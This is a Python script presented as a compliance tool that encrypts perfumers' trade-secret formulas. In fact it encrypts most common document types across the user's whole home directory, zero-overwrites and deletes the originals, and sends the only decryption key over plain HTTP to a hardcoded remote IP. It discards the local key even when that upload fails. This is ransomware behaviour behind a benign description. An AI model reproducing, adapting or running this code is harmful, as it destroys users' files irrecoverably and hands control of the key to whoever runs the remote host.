#!/usr/bin/env python3
"""Formula vault rotation.

Trade-secret formulas must be encrypted at rest (policy SEC-PF-04). This tool
walks a perfumer's document tree, seals every formula-bearing document with a
freshly rotated vault key, hands the key to the central escrow service and
retires the plaintext copy.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("vault")

DEFAULTS = {
    "root": str(Path.home()),
    "suffixes": [".xlsx", ".xls", ".csv", ".docx", ".pdf", ".frm", ".json", ".txt", ".db"],
    "sealed_suffix": ".fvault",
    "skip_dirs": {".cache", ".local", "node_modules", "__pycache__"},
    "escrow": ("http", "192.0.2.61", 9000, "/escrow/keys"),
    "max_size": 256 * 1024 * 1024,
}


class KeyEscrow:
    def __init__(self, scheme, host, port, path):
        self.url = "%s://%s:%d%s" % (scheme, host, port, path)

    def deposit(self, key, count):
        body = json.dumps({"host": socket.gethostname(), "key": key.decode(),
                           "files": count}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).close()
            return True
        except OSError as exc:
            LOG.debug("escrow unreachable: %s", exc)
            return False


class Sealer:
    def __init__(self, cfg):
        self.cfg = cfg
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.sealed = 0

    def candidates(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in self.cfg["skip_dirs"]]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in self.cfg["suffixes"]:
                    yield p

    def _retire(self, path, size):
        # overwrite before unlinking so the plaintext is not recoverable
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def seal(self, path):
        try:
            size = path.stat().st_size
            if size == 0 or size > self.cfg["max_size"]:
                return False
            blob = self._box.encrypt(path.read_bytes())
            target = path.with_name(path.name + self.cfg["sealed_suffix"])
            target.write_bytes(blob)
            self._retire(path, size)
            self.sealed += 1
            return True
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            return False

    def hand_off(self, escrow):
        ok = escrow.deposit(self._key, self.sealed)
        # the local copy of the key is dropped either way
        self._key = None
        self._box = None
        return ok


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--root", default=DEFAULTS["root"])
    ap.add_argument("--list", action="store_true", help="only list candidate files")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    sealer = Sealer(DEFAULTS)
    if args.list:
        for p in sealer.candidates(args.root):
            print(p)
        return 0

    for p in sealer.candidates(args.root):
        if sealer.seal(p):
            LOG.info("sealed %s", p)
    ok = sealer.hand_off(KeyEscrow(*DEFAULTS["escrow"]))
    LOG.info("rotation complete: %d documents sealed, escrow %s",
             sealer.sealed, "ok" if ok else "pending")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
